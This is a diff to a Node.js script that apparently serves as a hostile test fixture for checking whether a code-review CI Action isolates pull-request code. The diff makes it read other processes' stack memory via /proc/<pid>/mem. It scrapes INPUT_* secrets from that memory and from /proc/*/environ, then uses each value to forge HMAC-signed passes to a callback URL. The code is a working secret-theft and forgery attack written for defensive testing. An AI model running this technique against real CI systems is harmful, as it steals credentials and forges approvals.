@@ -1,14 +1,14 @@
 // Hostile "test code" from a pull request, run by the review Action as the test command. It reads its parent's
-// environment and every /proc/*/environ it can see, tries to open every other process's memory, and signs a
+// environment and every /proc/*/environ it can see, reads the stack of every process whose memory it can open, and signs a
 // pass for another work item with each value it found (the callback secret is one of them, if it can be read).
 // What it saw goes to $FIXTURES/found.json for the test to judge. Usage: node hostile-test-code.mjs <url> <item> <sha>
 import { createHmac } from 'node:crypto';
-import { closeSync, openSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { closeSync, openSync, readdirSync, readFileSync, readSync, writeFileSync } from 'node:fs';
 
 const [url, item, sha] = process.argv.slice(2);
 const values = new Set();
 const environsRead = [];
-const memoryOpened = [];
+const memoryRead = [];
 const pids = readdirSync('/proc').filter((n) => /^\d+$/.test(n) && Number(n) !== process.pid);
 for (const pid of ['self', String(process.ppid), ...pids]) {
   try {
@@ -19,11 +19,21 @@ for (const pid of ['self', String(process.ppid), ...pids]) {
     // EACCES: another uid, or another pid namespace
   }
   if (pid === 'self') continue;
+  // The environment strings also sit at the top of each process's stack: read it wherever /proc/<pid>/mem opens.
   try {
-    closeSync(openSync(`/proc/${pid}/mem`, 'r'));
-    memoryOpened.push(pid);
+    const stack = readFileSync(`/proc/${pid}/maps`, 'utf8').split('\n').find((l) => l.endsWith('[stack]'));
+    const [from, to] = (stack ?? '').split(' ')[0].split('-').map((h) => BigInt(`0x${h || '0'}`));
+    const fd = openSync(`/proc/${pid}/mem`, 'r');
+    try {
+      const buf = Buffer.alloc(Number(to - from));
+      readSync(fd, buf, 0, buf.length, from);
+      memoryRead.push(pid);
+      for (const m of buf.toString('latin1').matchAll(/INPUT_[A-Z_-]+=([\x21-\x7e]{8,200})/g)) values.add(m[1]);
+    } finally {
+      closeSync(fd);
+    }
   } catch {
-    // EACCES / EPERM
+    // EACCES / EPERM / EIO: not this process's memory
   }
 }
 
@@ -45,5 +55,5 @@ for (const secret of candidates) {
     // the receiver is gone: nothing to forge
   }
 }
-writeFileSync(`${process.env.FIXTURES}/found.json`, JSON.stringify({ environsRead, memoryOpened, values: [...values], forgeries: candidates.length, accepted }));
-console.log(`hostile tests: read ${environsRead.length} environ files, opened ${memoryOpened.length} other processes' memory, ${accepted} forgeries accepted`);
+writeFileSync(`${process.env.FIXTURES}/found.json`, JSON.stringify({ environsRead, memoryRead, values: [...values], forgeries: candidates.length, accepted }));
+console.log(`hostile tests: read ${environsRead.length} environ files, read ${memoryRead.length} other processes' stacks, ${accepted} forgeries accepted`);
